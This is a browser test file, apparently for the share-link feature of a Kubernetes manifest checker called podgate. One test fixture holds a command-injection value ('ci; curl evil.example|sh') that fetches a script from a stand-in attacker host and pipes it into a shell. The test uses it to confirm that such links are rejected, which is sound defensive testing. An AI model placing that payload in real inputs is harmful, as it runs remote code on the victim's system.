// Links: what they hold, what they may not do, and what becomes of the work that they replace.
import assert from "node:assert/strict";
import { test } from "node:test";

import { copied, openExample, settled, sharedLink, show, site, write } from "./browser.js";
import { source } from "./source.js";

const it = site();
const load = source();

const state = { manifests: [{ source: "linked.yaml", text: "kind: Pod\n# linked\n" }], profiles: [], settings: "", policies: [] };

async function link(more = {}) {
  const { toFragment } = await load("state/share.ts");
  return toFragment({ ...state, ...more });
}

test("a link restores everything", async () => {
  let link = "";
  let report = "";
  await it.visit(async (page) => {
    await openExample(page, "A volume behind a claim");
    await show(page, "Settings");
    await write(page, "podgate.yaml", "policies:\n  CI105:\n    mode: audit # ä €\n");
    await settled(page);
    link = await sharedLink(page);
    await page.getByRole("button", { name: "Copy the link" }).click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);
    report = await copied(page, "Report as JSON");
  });
  await it.visit(
    async (page) => {
      assert.equal(await copied(page, "Report as JSON"), report);
      await page.waitForSelector(".tabs [aria-current] >> text=Settings");
      await page.waitForSelector("text=# ä €");
    },
    { hash: new URL(link).hash },
  );
});

test("a link opens the view and the file that it was made in", async () => {
  const manifests = [...state.manifests, { source: "second.yaml", text: "# second\n" }];
  await it.visit(
    async (page) => {
      await page.waitForSelector(".cm-line >> text=# second");
      await show(page, "Policies");
      await page.waitForSelector("h2 >> text=CI105");
    },
    { hash: await link({ manifests, shown: 1, selected: { id: "CI105" } }) },
  );
});

for (const [name, hash] of Object.entries({
  "a damaged link": "#1.AAAA",
  "a link of another version": "#2.abcdef",
  "a link that brings a command": await link({ profiles: ["ci; curl evil.example|sh\n"] }),
})) {
  test(`${name} is said, and the page works`, async () => {
    await it.visit(
      async (page) => {
        await page.waitForSelector(".notice >> text=This link cannot be read");
        await page.waitForSelector(".files .current >> text=docker-socket.yaml");
        assert.equal(await copied(page, "Command line"), "podgate check docker-socket.yaml");
      },
      { hash },
    );
  });
}

test("a link that is opened over somebody's work gives it back", async () => {
  await it.visit(async (page) => {
    await write(page, "Manifest docker-socket.yaml", "kind: Pod\n# mine\n");
    await settled(page);
    const fragment = await link();
    await page.evaluate((hash) => { location.hash = hash; }, fragment);
    await page.waitForSelector(".cm-line >> text=# linked");
    assert.equal(await page.evaluate(() => location.hash), fragment);
    await page.getByRole("button", { name: "Go back to it" }).click();
    await page.waitForSelector(".cm-line >> text=# mine");
    assert.equal(await page.evaluate(() => location.hash), "");
  });
});

test("another fragment changes nothing, and the way past the gallery leads to the view", async () => {
  await it.visit(async (page) => {
    await show(page, "Settings");
    await page.evaluate(() => { location.hash = "#elsewhere"; });
    await page.evaluate(() => document.activeElement?.blur());
    await page.waitForSelector(".tabs [aria-current] >> text=Settings");
    assert.equal(await page.evaluate(() => location.hash), "#elsewhere");
    await page.getByRole("button", { name: "Skip to the view" }).focus();
    await page.keyboard.press("Enter");
    assert.equal(await page.evaluate(() => document.activeElement.id), "main");
  });
});

test("what is too large to be kept is not replaced by what was there before", async () => {
  await it.visit(async (page) => {
    await write(page, "Manifest docker-socket.yaml", "# small\n");
    await page.waitForFunction(() => sessionStorage.getItem("podgate")?.includes("# small"));
    const dropped = await page.evaluateHandle(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([`# ${"x".repeat(6e6)}`], "big.yaml"));
      return transfer;
    });
    await page.dispatchEvent(".app", "drop", { dataTransfer: dropped });
    await page.waitForFunction(() => sessionStorage.getItem("podgate") === null);
  });
});
